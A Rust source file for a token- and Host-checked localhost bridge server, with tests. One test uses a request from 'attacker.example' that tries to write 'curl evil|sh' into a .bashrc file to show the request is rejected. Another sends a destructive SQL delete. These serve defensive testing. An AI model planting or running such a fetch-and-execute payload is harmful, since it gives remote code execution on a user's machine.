//! Bridge server module
//!
//! Localhost HTTP server the UI process talks to. Each request carries one
//! [`Command`]; the reply is a [`Response`].
//!
//! Commands are accepted only when the `Host` header names the loopback
//! listener and the request carries the per-launch token in
//! [`TOKEN_HEADER`].

use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::Result;
use axum::{
    extract::{Request, State},
    http::{header, StatusCode},
    middleware::{self, Next},
    response::IntoResponse,
    routing::{get, post},
    Json, Router,
};
use tokio::sync::oneshot;
use tracing::{debug, error, info, warn};
use uuid::Uuid;

use super::{BridgeContext, Command, Response};

/// Route receiving commands
pub const COMMAND_ROUTE: &str = "/command";

/// Header carrying the per-launch bridge token
pub const TOKEN_HEADER: &str = "x-nimisora-token";

/// Credentials a command request must present
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BridgeAuth {
    token: String,
    port: u16,
}

impl BridgeAuth {
    pub fn new(token: impl Into<String>, port: u16) -> Self {
        Self {
            token: token.into(),
            port,
        }
    }

    /// Random token for a listener on `port`
    pub fn generate(port: u16) -> Self {
        Self::new(Uuid::new_v4().simple().to_string(), port)
    }

    pub fn token(&self) -> &str {
        &self.token
    }

    fn host_allowed(&self, host: &str) -> bool {
        match host.rsplit_once(':') {
            Some((name, port)) => {
                (name == "127.0.0.1" || name.eq_ignore_ascii_case("localhost"))
                    && port.parse::<u16>().ok() == Some(self.port)
            }
            None => false,
        }
    }
}

/// Handle to control the running server
pub struct ServerHandle {
    shutdown_tx: Option<oneshot::Sender<()>>,
    addr: SocketAddr,
    token: String,
}

impl ServerHandle {
    /// Get the address the server is listening on
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// Token the UI process must send in [`TOKEN_HEADER`]
    pub fn token(&self) -> &str {
        &self.token
    }

    /// Shutdown the server gracefully
    pub fn shutdown(mut self) {
        if let Some(tx) = self.shutdown_tx.take() {
            // Ignore error if receiver is already dropped
            let _ = tx.send(());
        }
    }
}

/// Build the bridge router
pub fn router(ctx: Arc<BridgeContext>, auth: BridgeAuth) -> Router {
    Router::new()
        .route(COMMAND_ROUTE, post(command_handler))
        .route_layer(middleware::from_fn_with_state(
            Arc::new(auth),
            require_local_caller,
        ))
        .route("/health", get(|| async { StatusCode::OK }))
        .with_state(ctx)
}

/// Start the bridge server on 127.0.0.1
///
/// # Arguments
/// * `port` - Port to listen on (0 lets the OS choose)
/// * `ctx` - Stores and logger shared by all handlers
///
/// # Returns
/// A `ServerHandle` that can be used to shut down the server
pub async fn start(port: u16, ctx: Arc<BridgeContext>) -> Result<ServerHandle> {
    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    let listener = tokio::net::TcpListener::bind(addr).await?;
    let bound_addr = listener.local_addr()?;

    let auth = BridgeAuth::generate(bound_addr.port());
    let token = auth.token().to_string();
    let app = router(ctx, auth);

    info!("Command bridge listening on {}", bound_addr);

    let (shutdown_tx, shutdown_rx) = oneshot::channel::<()>();

    tokio::spawn(async move {
        axum::serve(listener, app)
            .with_graceful_shutdown(async {
                shutdown_rx.await.ok();
                info!("Command bridge shutting down");
            })
            .await
            .ok();
    });

    Ok(ServerHandle {
        shutdown_tx: Some(shutdown_tx),
        addr: bound_addr,
        token,
    })
}

/// Reject requests addressed to a foreign host or lacking the bridge token
async fn require_local_caller(
    State(auth): State<Arc<BridgeAuth>>,
    request: Request,
    next: Next,
) -> axum::response::Response {
    let headers = request.headers();

    let host = headers.get(header::HOST).and_then(|v| v.to_str().ok());
    if !host.is_some_and(|h| auth.host_allowed(h)) {
        warn!(host = ?host, "Rejected bridge request for foreign host");
        return forbidden("request host is not the local bridge");
    }

    let token = headers.get(TOKEN_HEADER).and_then(|v| v.to_str().ok());
    if token != Some(auth.token()) {
        warn!("Rejected bridge request without a valid token");
        return forbidden("missing or invalid bridge token");
    }

    next.run(request).await
}

fn forbidden(reason: &str) -> axum::response::Response {
    (StatusCode::FORBIDDEN, Json(Response::failure(reason))).into_response()
}

/// POST /command handler
///
/// Store access is synchronous, so commands run on the blocking pool.
async fn command_handler(
    State(ctx): State<Arc<BridgeContext>>,
    Json(command): Json<Command>,
) -> (StatusCode, Json<Response>) {
    debug!(op = command.name(), "Received bridge command");

    match tokio::task::spawn_blocking(move || ctx.dispatch(command)).await {
        Ok(response) => (StatusCode::OK, Json(response)),
        Err(e) => {
            error!(error = %e, "Bridge command task failed");
            (
                StatusCode::INTERNAL_SERVER_ERROR,
                Json(Response::failure("internal error")),
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::logging::Logger;
    use crate::store::{ConfigDefault, ConfigStore, Database, LogStore};
    use axum::body::{to_bytes, Body};
    use axum::http::Request as HttpRequest;
    use tempfile::TempDir;
    use tower::ServiceExt;

    const PORT: u16 = 17871;
    const TOKEN: &str = "0123456789abcdef";

    fn test_context(temp_dir: &TempDir) -> Arc<BridgeContext> {
        let db = Database::in_memory().unwrap();
        let config = ConfigStore::new(db.clone());
        config
            .seed_defaults(&[ConfigDefault::new("theme", "system", "default theme")])
            .unwrap();
        let logger = Arc::new(Logger::new(Some(temp_dir.path().join("app.log"))));
        Arc::new(BridgeContext::new(config, LogStore::new(db), logger))
    }

    fn test_router(temp_dir: &TempDir) -> Router {
        router(test_context(temp_dir), BridgeAuth::new(TOKEN, PORT))
    }

    fn command_request(host: &str, token: Option<&str>, body: impl Into<Body>) -> Request {
        let mut builder = HttpRequest::builder()
            .method("POST")
            .uri(COMMAND_ROUTE)
            .header(header::HOST, host)
            .header("content-type", "application/json");
        if let Some(token) = token {
            builder = builder.header(TOKEN_HEADER, token);
        }
        builder.body(body.into()).unwrap()
    }

    fn post_command(body: &'static str) -> Request {
        command_request("127.0.0.1:17871", Some(TOKEN), body)
    }

    async fn read_response(response: axum::response::Response) -> Response {
        let bytes = to_bytes(response.into_body(), usize::MAX).await.unwrap();
        serde_json::from_slice(&bytes).unwrap()
    }

    #[test]
    fn test_host_allowed() {
        let auth = BridgeAuth::new(TOKEN, PORT);
        assert!(auth.host_allowed("127.0.0.1:17871"));
        assert!(auth.host_allowed("localhost:17871"));
        assert!(!auth.host_allowed("127.0.0.1:8080"));
        assert!(!auth.host_allowed("attacker.example:17871"));
        assert!(!auth.host_allowed("127.0.0.1"));
    }

    #[test]
    fn test_generated_tokens_differ() {
        let a = BridgeAuth::generate(PORT);
        let b = BridgeAuth::generate(PORT);
        assert_eq!(a.token().len(), 32);
        assert_ne!(a.token(), b.token());
    }

    #[tokio::test]
    async fn test_get_config_command() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let response = app
            .oneshot(post_command(r#"{"op":"get_config","key":"theme"}"#))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let body = read_response(response).await;
        assert!(body.success);
        assert_eq!(body.data.unwrap()["value"], "system");
    }

    #[tokio::test]
    async fn test_localhost_host_accepted() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let response = app
            .oneshot(command_request(
                "localhost:17871",
                Some(TOKEN),
                r#"{"op":"count_config"}"#,
            ))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_foreign_host_rejected() {
        let temp_dir = TempDir::new().unwrap();
        let target = temp_dir.path().join("home");
        let ctx = test_context(&temp_dir);
        let app = router(ctx, BridgeAuth::new(TOKEN, PORT));

        let body = serde_json::json!({
            "op": "save_file",
            "dir": target,
            "filename": ".bashrc",
            "content": "curl evil|sh",
        })
        .to_string();
        let response = app
            .oneshot(command_request("attacker.example:17871", Some(TOKEN), body))
            .await
            .unwrap();

        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert!(!read_response(response).await.success);
        assert!(!target.join(".bashrc").exists());
    }

    #[tokio::test]
    async fn test_missing_or_wrong_token_rejected() {
        let temp_dir = TempDir::new().unwrap();

        for token in [None, Some("not-the-token")] {
            let response = test_router(&temp_dir)
                .oneshot(command_request(
                    "127.0.0.1:17871",
                    token,
                    r#"{"op":"count_config"}"#,
                ))
                .await
                .unwrap();
            assert_eq!(response.status(), StatusCode::FORBIDDEN);
        }
    }

    #[tokio::test]
    async fn test_insert_log_command_persists_row() {
        let temp_dir = TempDir::new().unwrap();
        let ctx = test_context(&temp_dir);
        let app = router(Arc::clone(&ctx), BridgeAuth::new(TOKEN, PORT));

        let response = app
            .oneshot(post_command(
                r#"{"op":"insert_log","level":"INFO","event":"ui.start","message":"renderer ready"}"#,
            ))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        assert!(read_response(response).await.success);
        assert_eq!(ctx.logs.count().unwrap(), 1);
    }

    #[tokio::test]
    async fn test_failed_command_is_ok_status_with_error() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let response = app
            .oneshot(post_command(
                r#"{"op":"set_config","key":"missing","value":"1"}"#,
            ))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);

        let body = read_response(response).await;
        assert!(!body.success);
        assert!(body.error.is_some());
    }

    #[tokio::test]
    async fn test_invalid_json() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let response = app.oneshot(post_command("not valid json")).await.unwrap();
        // Axum returns 400 Bad Request for JSON syntax errors
        assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    }

    #[tokio::test]
    async fn test_unknown_op_rejected() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let response = app
            .oneshot(post_command(r#"{"op":"sql","sql":"DELETE FROM app_config"}"#))
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    }

    #[tokio::test]
    async fn test_health() {
        let temp_dir = TempDir::new().unwrap();
        let app = test_router(&temp_dir);

        let request = HttpRequest::builder()
            .uri("/health")
            .body(Body::empty())
            .unwrap();
        let response = app.oneshot(request).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
    }

    #[tokio::test]
    async fn test_server_starts_and_shuts_down() {
        let temp_dir = TempDir::new().unwrap();

        // Use port 0 to let OS assign an available port
        let handle = start(0, test_context(&temp_dir)).await.unwrap();
        let addr = handle.addr();
        assert!(addr.port() > 0);
        assert_eq!(handle.token().len(), 32);
        assert!(tokio::net::TcpStream::connect(addr).await.is_ok());

        handle.shutdown();

        // Give server time to shut down
        tokio::time::sleep(tokio::time::Duration::from_millis(50)).await;
        assert!(tokio::net::TcpStream::connect(addr).await.is_err());
    }
}
